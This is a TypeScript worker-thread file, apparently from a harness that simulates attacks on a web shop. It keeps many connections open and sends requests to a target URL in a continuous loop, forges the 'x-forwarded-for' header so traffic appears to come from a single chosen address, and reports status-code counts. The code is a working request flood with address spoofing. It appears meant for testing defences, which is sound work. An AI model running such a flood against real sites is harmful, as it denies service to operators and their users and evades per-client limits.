/** A thread that asks the shop for one kind of thing over many lines kept open, all from one address, until it is ended. */
import { Agent, request } from "node:http";
import { setPriority } from "node:os";
import { parentPort, workerData } from "node:worker_threads";
import { type Harm, linesOf, prepareHarm, type Senders } from "./harms.ts";

const { url, harm, address, senders } = workerData as {
  url: string;
  harm: Harm;
  address: string;
  senders: Senders;
};
// Whoever attacks has a machine of their own: making five megabytes again and again is no load of the shop's. On Linux this thread alone.
setPriority(10);
const agent = new Agent({ keepAlive: true, maxSockets: linesOf(harm) });
const statuses: Record<string, number> = {};
const next = await prepareHarm(harm, senders);

function ask(line: number): void {
  const { method, path, body, headers } = next(line);
  const all = {
    "x-forwarded-for": address,
    "accept-encoding": "br, gzip",
    ...(body && { origin: url, "content-length": String(Buffer.byteLength(body)) }),
    ...headers,
  };
  let isOver = false;
  const again = (pauseMs: number) => {
    if (!isOver) setTimeout(ask, pauseMs, line);
    isOver = true;
  };
  request(`${url}${path}`, { agent, method, headers: all }, (answer) => {
    statuses[String(answer.statusCode)] = (statuses[String(answer.statusCode)] ?? 0) + 1;
    answer.resume().on("end", () => again(0));
  })
    .on("error", () => again(50))
    .end(body);
}

parentPort?.on("message", () => parentPort?.postMessage(statuses));
for (let line = 0; line < linesOf(harm); line += 1) ask(line);
parentPort?.postMessage("begun");
